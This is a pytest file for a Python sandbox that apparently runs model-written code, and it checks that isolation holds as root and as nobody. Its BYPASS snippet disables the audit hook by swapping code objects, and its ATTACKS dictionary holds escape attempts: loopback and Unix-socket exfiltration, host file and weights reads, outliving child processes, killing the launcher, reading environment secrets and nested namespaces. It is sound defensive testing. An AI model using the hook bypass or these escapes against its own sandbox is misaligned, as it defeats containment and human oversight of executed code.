"""Containment tests.

The escape suite runs real attack scripts through the sandbox, as root and as an
unprivileged user (a launcher under ``setpriv --reuid=nobody``): each attack first disables
the audit hook from inside (via ``gc.get_objects()``, replacing the hook's code object) and
proves it did, so only the kernel layers stand between it and the host. Other tests cover
limits, the namespace fallback (root only) and the refusal without isolation."""

import asyncio
import dataclasses
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from pathlib import Path

import pytest

from tests.paths import REPO
from tunix_tasks.envs.sandbox import (
    SandboxLimits,
    SandboxUnavailable,
    check_isolation,
    run_python,
    run_python_async,
)
from tunix_tasks.envs.sandbox.bwrap import find_bwrap

FAST = SandboxLimits(wall_s=2.0, cpu_s=1, memory_bytes=256 * 1024 * 1024)
NO_BWRAP = SandboxLimits(wall_s=2.0, cpu_s=1, bwrap="/nonexistent/bwrap")

# Prepended to every attack: neutralise the audit hook, and say so.
BYPASS = """\
import gc
def _disable_audit_hooks():
    n = 0
    for o in gc.get_objects():
        c = getattr(o, "__code__", None)
        if c is not None and o.__name__ == "hook" and c.co_varnames[:2] == ("event", "args"):
            src = "def outer():\\n" + "".join(f"    {v} = None\\n" for v in c.co_freevars)
            src += "    def hook(event, args):\\n"
            src += "        return (" + "".join(f"{v}, " for v in c.co_freevars) + ") and None\\n"
            src += "    return hook\\n"
            ns = {}
            exec(src, ns)
            o.__code__ = ns["outer"]().__code__
            n += 1
    return n
_n = _disable_audit_hooks()
import ctypes  # refused by the audit hook: importable only once it is disabled
print(f"HOOKS_DISABLED={_n}", flush=True)
"""
# Tokens replaced by the launcher: PORT, UNIX_SOCKET, TMP_TARGET, SHM_TARGET, PROJECT_FILE,
# WEIGHTS_FILE, NONCE, ACTOR_PID, VICTIM_PID. An attack prints ESCAPED when it worked.
ATTACKS = {
    "network": "import socket\n"
    "s = socket.create_connection(('127.0.0.1', PORT), timeout=1)\n"
    "s.sendall(b'exfiltrated')\nprint('ESCAPED')",
    "write_tmp": "open('TMP_TARGET', 'w').write('pwned')\nprint('ESCAPED')",
    "write_shm": "open('SHM_TARGET', 'w').write('pwned')\nprint('ESCAPED')",
    "subprocess": "import subprocess, sys\n"
    "r = subprocess.run([sys.executable, '-c', 'print(6*7)'], capture_output=True, text=True)\n"
    "print('ESCAPED' if '42' in r.stdout else 'no output')",
    "fork": "import os\npid = os.fork()\nif pid == 0:\n    print('ESCAPED', flush=True)\n"
    "    os._exit(0)\nos.waitpid(pid, 0)",
    # A grandchild in its own session, renamed (exec) so the host can find it by NONCE.
    "outlive": "import os, sys\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
    "        os.execv(sys.executable, [sys.executable, '-c',"
    " 'import time; time.sleep(60)', 'NONCE'])\n    os._exit(0)\nprint('forked')",
    "kill_actor": "import os, signal\nfor pid in (ACTOR_PID, VICTIM_PID, os.getppid()):\n"
    "    try:\n        os.kill(pid, signal.SIGKILL)\n        print('sent', pid)\n"
    "    except OSError as e:\n        print('refused', pid, e)",
    "read_project": "print(open('PROJECT_FILE').read()[:300])\nprint('ESCAPED')",
    "read_weights": "print(open('WEIGHTS_FILE').read())\nprint('ESCAPED')",
    "proc_cmdline": "import os\nseen = []\n"
    "for p in [d for d in os.listdir('/proc') if d.isdigit()] + ['VICTIM_PID']:\n"
    "    try:\n        seen.append(open(f'/proc/{p}/cmdline', 'rb').read().decode())\n"
    "    except OSError as e:\n        seen.append(repr(e))\nprint(seen)",
    "environ": "import os\nprint(dict(os.environ))\n"
    "print(open('/proc/ACTOR_PID/environ', 'rb').read())",
}
# A host Unix socket in /tmp (world-writable, so any uid may connect), and a nested user
# namespace (root inside it could chroot, mount, ...), with the syscalls themselves.
ATTACKS["unix_socket"] = (
    "import socket\ns = socket.socket(socket.AF_UNIX)\ns.settimeout(1)\n"
    "s.connect('UNIX_SOCKET')\ns.sendall(b'exfiltrated')\nprint('ESCAPED')"
)
ATTACKS["nested_userns"] = (
    "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    "for flags in (0x10000000, 0x10020000):  # CLONE_NEWUSER, with CLONE_NEWNS\n"
    "    if libc.unshare(flags) == 0:\n        print('ESCAPED unshare')\n"
    "    print('unshare refused:', os.strerror(ctypes.get_errno()))\n"
    "try:\n    os.chroot('/')\n    print('ESCAPED chroot')\n"
    "except OSError as e:\n    print('chroot refused:', e)"
)
# The outlive attack again, with forks allowed: only the pid namespace can stop it.
ATTACKS["outlive_forks_allowed"] = ATTACKS["outlive"]
OVERRIDES = {"outlive_forks_allowed": {"max_processes": 8}}

# Runs as root or as nobody (stdlib only): starts a victim, runs every attack, reports.
LAUNCHER = r"""
import json, os, subprocess, sys, time
sys.path.insert(0, sys.argv[1])
from tunix_tasks.envs.sandbox import SandboxLimits, run_python
job = json.loads(sys.stdin.read())
victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)", job["marker"]])
tokens = dict(job["tokens"], ACTOR_PID=str(os.getpid()), VICTIM_PID=str(victim.pid))
out = {"runs": {}}
for name, code in job["attacks"].items():
    for k, v in tokens.items():
        code = code.replace(k, v)
    lim = SandboxLimits(**dict(job["limits"], **job["overrides"].get(name, {})))
    r = run_python(job["bypass"] + code, limits=lim)
    out["runs"][name] = [r.status, r.stdout, r.stderr[-600:], list(r.mechanisms)]
out["victim_alive"] = victim.poll() is None
victim.kill()
if job.get("refusal"):
    try:
        run_python("print(1)", limits=SandboxLimits(**job["refusal"]))
        out["refusal"] = "ran"
    except Exception as e:
        out["refusal"] = f"{type(e).__name__}: {e}"
print(json.dumps(out))
"""


def _nobody_python() -> str | None:
    if os.geteuid() != 0 or not shutil.which("setpriv"):
        return None
    for cand in ("/usr/bin/python3.11", "/usr/bin/python3.12", "/usr/bin/python3"):
        if os.path.exists(cand) and os.stat(os.path.realpath(cand)).st_mode & 0o001:
            return cand
    return None


def _require_bwrap() -> None:
    """Skip without bubblewrap (`make venv` installs it); an installed one must work."""
    if find_bwrap(None) is None:
        pytest.skip("bubblewrap is not installed (`make venv` installs it as root)")
    assert check_isolation(SandboxLimits(mode="bwrap")) == "bwrap"


def _procs_with(needle: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if needle.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:
            continue
    return found


class _Server:
    """A loopback TCP server that records every connection it accepts."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def _loop(self) -> None:
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                self.accepted.append(conn.recv(100))

    def close(self) -> None:
        self.stop.set()
        self.thread.join()
        self.sock.close()


class _UnixServer(_Server):
    """A host Unix socket in /tmp that any uid may connect to (mode 0777)."""

    def __init__(self) -> None:
        self.path = f"/tmp/tunix-host-{uuid.uuid4().hex[:12]}.sock"
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(self.path)
        os.chmod(self.path, 0o777)
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.accepted = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._loop, daemon=True)
        self.thread.start()

    def close(self) -> None:
        super().close()
        os.unlink(self.path)


@pytest.fixture(scope="module", params=["root", "nobody"])
def attacked(request) -> dict:
    """Run every attack once as this user; return the launcher's report plus host facts."""
    if request.param == "root":
        if os.geteuid() != 0:
            pytest.skip("the root run needs root")
        prefix, python = [], sys.executable
    else:
        python = _nobody_python()
        if os.geteuid() == 0 and python is None:
            pytest.skip("needs setpriv and a world-executable system python")
        prefix = ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups"]
        python = python or sys.executable
    _require_bwrap()
    hexid = uuid.uuid4().hex
    weights = Path(f"/tmp/tunix-weights-{hexid}.bin")
    weights.write_text(f"WEIGHTS-{hexid}")
    weights.chmod(0o644)
    tokens = {
        "TMP_TARGET": f"/tmp/sandbox-escape-{hexid}",
        "SHM_TARGET": f"/dev/shm/sandbox-escape-{hexid}",
        "PROJECT_FILE": str(REPO / "pyproject.toml"),
        "WEIGHTS_FILE": str(weights),
        "NONCE": f"nonce-{hexid}",
    }
    server, unix_server = _Server(), _UnixServer()
    job = {
        "attacks": ATTACKS,
        "bypass": BYPASS,
        "overrides": OVERRIDES,
        "marker": f"victim-marker-{hexid}",
        "tokens": dict(tokens, PORT=str(server.port), UNIX_SOCKET=unix_server.path),
        "limits": {"wall_s": 3.0, "cpu_s": 2},
        "refusal": {"bwrap": "/nonexistent/bwrap"},
    }
    try:
        proc = subprocess.run(
            [*prefix, python, "-I", "-c", LAUNCHER, str(REPO)],
            input=json.dumps(job),
            env={"PATH": "/usr/bin:/bin", "AWS_SECRET_ACCESS_KEY": f"aws-secret-{hexid}"},
            cwd="/",
            capture_output=True,
            text=True,
            timeout=120,
        )
        time.sleep(0.3)  # let a connection that got through be recorded
    finally:
        server.close()
        unix_server.close()
        weights.unlink()
    assert proc.returncode == 0, f"the launcher (the actor) died: {proc.stderr[-2000:]}"
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    report.update(user=request.param, hexid=hexid, accepted=server.accepted, **tokens)
    report["unix_accepted"] = unix_server.accepted
    report["survivors"] = _procs_with(tokens["NONCE"])
    for pid in report["survivors"]:
        os.kill(pid, 9)
    for name, (status, stdout, _, mech) in report["runs"].items():
        print(f"[{request.param}] {name}: {status} {mech[:3]} {stdout[-120:]!r}")
    return report


def _run(report: dict, name: str) -> tuple[str, str, str]:
    status, stdout, stderr, mechanisms = report["runs"][name]
    # The attack really ran without the audit hook: only kernel isolation was left.
    assert "HOOKS_DISABLED=1" in stdout, (name, stdout, stderr)
    assert "bwrap" in mechanisms and "audit_hook" in mechanisms, mechanisms
    assert "ESCAPED" not in stdout, (name, stdout, stderr)
    return status, stdout, stderr


def test_escape_network(attacked):
    status, _, stderr = _run(attacked, "network")
    assert status == "error" and ("ConnectionRefused" in stderr or "unreachable" in stderr)
    assert attacked["accepted"] == []


def test_escape_host_unix_socket(attacked):
    status, _, stderr = _run(attacked, "unix_socket")
    assert status == "error" and "FileNotFoundError" in stderr, stderr  # no host /tmp
    assert attacked["unix_accepted"] == []


def test_escape_nested_user_namespace(attacked):
    status, stdout, stderr = _run(attacked, "nested_userns")
    assert status == "ok" and stdout.count("unshare refused") == 2, (stdout, stderr)
    assert "chroot refused" in stdout


@pytest.mark.parametrize("target", ["write_tmp", "write_shm"])
def test_escape_writes(attacked, target):
    status, _, stderr = _run(attacked, target)
    assert status == "error", stderr
    path = attacked["TMP_TARGET" if target == "write_tmp" else "SHM_TARGET"]
    assert not os.path.exists(path)


@pytest.mark.parametrize("name", ["subprocess", "fork"])
def test_escape_processes(attacked, name):
    status, _, stderr = _run(attacked, name)
    assert status == "error" and "BlockingIOError" in stderr, stderr  # RLIMIT_NPROC


@pytest.mark.parametrize("name", ["outlive", "outlive_forks_allowed"])
def test_escape_outliving_child(attacked, name):
    status, stdout, stderr = _run(attacked, name)
    if name == "outlive":
        assert status == "error" and "BlockingIOError" in stderr
    else:  # the fork worked; the pid namespace ended with the run
        assert status == "ok" and "forked" in stdout, stderr
    assert attacked["survivors"] == []


def test_escape_kill_actor(attacked):
    _, stdout, _ = _run(attacked, "kill_actor")
    assert attacked["victim_alive"], stdout  # and the launcher (the actor) finished
    assert stdout.count("refused") >= 2, stdout  # no such process in the pid namespace


@pytest.mark.parametrize("name", ["read_project", "read_weights"])
def test_escape_read_host_files(attacked, name):
    status, stdout, stderr = _run(attacked, name)
    assert status == "error" and "FileNotFoundError" in stderr, stderr
    assert "tunix" not in stdout and "WEIGHTS-" not in stdout


def test_escape_other_processes(attacked):
    status, stdout, _ = _run(attacked, "proc_cmdline")
    assert status == "ok" and "victim-marker" not in stdout and "nonce-" not in stdout
    status, stdout, _ = _run(attacked, "environ")
    assert "aws-secret" not in stdout and status == "error"  # the actor is not there


def test_refusal_without_bwrap_as_unprivileged_user(attacked):
    if attacked["user"] == "nobody":  # no bubblewrap and not root: nothing acceptable
        assert attacked["refusal"].startswith("SandboxUnavailable")
        assert "apt-get install -y bubblewrap" in attacked["refusal"]
        assert "unsafe-audit-only" in attacked["refusal"]


# --- limits and behaviour, under bubblewrap and under the root namespace fallback ---------


@pytest.fixture(params=["bwrap", "namespaces"])
def limits(request) -> SandboxLimits:
    """Kernel layers alone (no audit hook). 5 s of wall clock: a loaded host starts bwrap
    slowly, and the CPU limit (1 s) ends the programs meant to run forever."""
    if request.param == "bwrap":
        _require_bwrap()
        return SandboxLimits(wall_s=5.0, cpu_s=1, audit_hook=False, mode="bwrap")
    lim = SandboxLimits(wall_s=5.0, cpu_s=1, audit_hook=False, bwrap=NO_BWRAP.bwrap)
    try:
        assert check_isolation(lim) == "namespaces"
    except SandboxUnavailable as e:  # not root, or no CAP_SYS_ADMIN
        pytest.skip(f"no namespace fallback here: {str(e)[:200]}")
    return lim


def test_normal_program_and_cleanup(limits):
    r = run_python("import os, json\nprint(json.dumps([3+4]))\nprint(os.getcwd())", limits=limits)
    assert r.status == "ok" and r.exit_code == 0, r
    out, cwd = r.stdout.splitlines()
    assert out == "[7]"
    if "bwrap" in r.mechanisms:
        assert cwd == "/work" and {"pidns", "netns", "nproc", "rlimits"} <= set(r.mechanisms)
    else:
        assert "tunix-sandbox-" in cwd and not os.path.exists(cwd)  # work dir removed
    print("sandbox mechanisms:", r.mechanisms, f"wall {r.wall_s:.3f} s")


def test_host_unix_socket_and_nested_namespaces_are_refused(limits):
    """In every mode `auto` accepts (no audit hook: the kernel layers alone), model code
    reaches no host Unix socket and creates no user namespace, so no chroot either."""
    server = _UnixServer()
    try:
        connect = ATTACKS["unix_socket"].replace("UNIX_SOCKET", server.path)
        r = run_python(connect, limits=limits)
        time.sleep(0.3)  # let a connection that got through be recorded
    finally:
        server.close()
    assert r.status == "error" and "ESCAPED" not in r.stdout and server.accepted == [], r
    r = run_python(ATTACKS["nested_userns"], limits=limits)
    assert r.status == "ok" and "ESCAPED" not in r.stdout, r
    assert r.stdout.count("unshare refused") == 2 and "chroot refused" in r.stdout, r


def test_errors_are_reported_not_raised():
    assert run_python("print(", limits=FAST).status == "error"
    r = run_python("raise SystemExit(3)", limits=FAST)
    assert (r.status, r.exit_code) == ("error", 3)
    r = run_python("1/0", limits=FAST)
    assert r.status == "error" and r.stderr.strip().endswith("ZeroDivisionError: division by zero")
    bad = SandboxLimits(python="/nonexistent/python")
    assert run_python("print(1)", limits=bad).status == "killed"
    r = run_python("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", limits=FAST)
    assert (r.status, r.exit_code) == ("killed", -9)


def test_infinite_loop_hits_cpu_limit(limits):
    r = run_python("while True: pass", limits=limits)
    assert r.status == "timeout" and r.wall_s < limits.wall_s + 1


def test_sleep_hits_wall_clock():
    r = run_python("import time\ntime.sleep(60)", limits=SandboxLimits(wall_s=0.5))
    assert r.status == "timeout" and r.wall_s < 10  # cut at 0.5 s (+ a loaded host's start)


def test_memory_bomb(limits):
    r = run_python("x = []\nwhile True:\n    x.append(bytearray(10**7))", limits=limits)
    assert r.status == "memory", r.stderr[-300:]


def test_fork_bomb_is_contained(limits):
    before = time.monotonic()
    r = run_python("import os\nwhile True:\n    os.fork()\n", limits=limits)
    assert r.status == "error" and "BlockingIOError" in r.stderr, r  # RLIMIT_NPROC
    assert time.monotonic() - before < limits.wall_s + 1.5
    assert run_python("print('alive')", limits=limits).stdout == "alive\n"


def test_file_size_and_work_dir_limits():
    _require_bwrap()
    r = run_python("open('big', 'wb').write(b'x' * (2 << 20))", limits=FAST)
    assert r.status == "error" and "File too large" in r.stderr
    small = SandboxLimits(wall_s=2.0, work_bytes=2 << 20, mode="bwrap")
    code = "for i in range(10):\n    open(f'f{i}', 'wb').write(b'x' * (900 << 10))"
    r = run_python(code, limits=small)
    assert r.status == "error" and "No space left on device" in r.stderr, r.stderr[-300:]


def test_output_limit():
    r = run_python(
        "while True:\n    print('x' * 100)", limits=SandboxLimits(max_output_bytes=10_000)
    )
    assert r.status == "output_limit" and len(r.stdout) <= 10_000


def test_stdlib_works_but_third_party_code_is_invisible():
    _require_bwrap()
    code = (
        "import json, re, math, collections, itertools, fractions, decimal, tempfile\n"
        "print(json.dumps([math.comb(5, 2)]), tempfile.gettempdir())\n"
        "try:\n    import numpy\nexcept ImportError:\n    print('no numpy')\n"
    )
    r = run_python(code, limits=SandboxLimits(mode="bwrap", audit_hook=False))
    assert r.stdout == "[10] /work\nno numpy\n", r


def test_namespace_fallback_hides_other_processes():
    """Without bubblewrap, as root: /proc shows only the run's own uid (hidepid=2)."""
    try:
        check_isolation(NO_BWRAP)
    except SandboxUnavailable as e:
        pytest.skip(str(e)[:200])
    marker = f"victim-{uuid.uuid4().hex}"
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(30)", marker])
    try:
        code = (
            "import os\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        try:\n"
            "            print(open(f'/proc/{p}/cmdline').read())\n"
            "        except OSError:\n            pass\n"
        )
        r = run_python(code, limits=NO_BWRAP)
    finally:
        victim.kill()
    assert r.status == "ok" and marker not in r.stdout and "hidepid" in r.mechanisms, r


def test_refusal_without_isolation():
    no_isolation = SandboxLimits(bwrap="/nonexistent/bwrap", isolate_network=False)
    for lim in (no_isolation, SandboxLimits(bwrap="/nonexistent/bwrap", mode="bwrap")):
        with pytest.raises(SandboxUnavailable, match="apt-get install -y bubblewrap") as e:
            check_isolation(lim)
        assert "unsafe-audit-only" in str(e.value)
        with pytest.raises(SandboxUnavailable):
            run_python("print(1)", limits=lim)
    # A bubblewrap that cannot create namespaces (Docker's default seccomp profile): why.
    # (Under /tmp, not tmp_path: as root it runs as a fresh uid that must reach it.)
    tmp_path = Path(tempfile.mkdtemp(prefix="fake-bwrap-"))
    tmp_path.chmod(0o755)
    fake = tmp_path / "bwrap"
    fake.write_text(
        '#!/bin/sh\n[ "$1" = --help ] && { echo "--size BYTES"; exit 0; }\n'
        'echo "bwrap: No permissions to create new namespace" >&2; exit 1\n'
    )
    fake.chmod(0o755)
    with pytest.raises(SandboxUnavailable, match="No permissions to create new namespace"):
        check_isolation(SandboxLimits(bwrap=str(fake), isolate_network=False))
    old = tmp_path / "old-bwrap"
    old.write_text("#!/bin/sh\necho usage\n")
    old.chmod(0o755)
    with pytest.raises(SandboxUnavailable, match=r"older than 0\.7"):
        check_isolation(SandboxLimits(bwrap=str(old), mode="bwrap"))
    shutil.rmtree(tmp_path)
    with pytest.raises(ValueError, match="unsafe-audit-only"):
        check_isolation(SandboxLimits(mode="unsafe"))  # type: ignore[arg-type]
    # The explicit opt-in runs, loudly, with whatever layers remain.
    unsafe = SandboxLimits(bwrap="/nonexistent/bwrap", isolate_network=False,
                           mode="unsafe-audit-only")  # fmt: skip
    assert check_isolation(unsafe) == "unsafe"
    r = run_python("print(6*7)", limits=unsafe)
    assert r.stdout == "42\n" and "bwrap" not in r.mechanisms


def test_async_runs_do_not_block_the_loop():
    async def main() -> tuple[float, int]:
        ticks = 0

        async def ticker() -> None:
            nonlocal ticks
            while True:
                await asyncio.sleep(0.05)
                ticks += 1

        t = asyncio.create_task(ticker())
        t0 = time.perf_counter()
        code = "import time\ntime.sleep(1.0)\nprint('done')"
        limits = dataclasses.replace(FAST, wall_s=5.0)  # a loaded host starts bwrap slowly
        results = await asyncio.gather(*(run_python_async(code, limits=limits) for _ in range(6)))
        elapsed = time.perf_counter() - t0
        t.cancel()
        assert all(r.stdout == "done\n" for r in results)
        return elapsed, ticks

    elapsed, ticks = asyncio.run(main())
    # 6 x 1 s one after another would take 6 s: under that, they ran concurrently (CI's 2
    # loaded cores measured 2.5 s for 6 x 0.5 s; a test worker beside it loads them more);
    # the loop kept ticking meanwhile.
    assert elapsed < 5.5 and ticks >= 10


def test_blocking_variant_inside_a_running_loop():
    async def main():
        return run_python("print('from loop')", limits=FAST)

    assert asyncio.run(main()).stdout == "from loop\n"
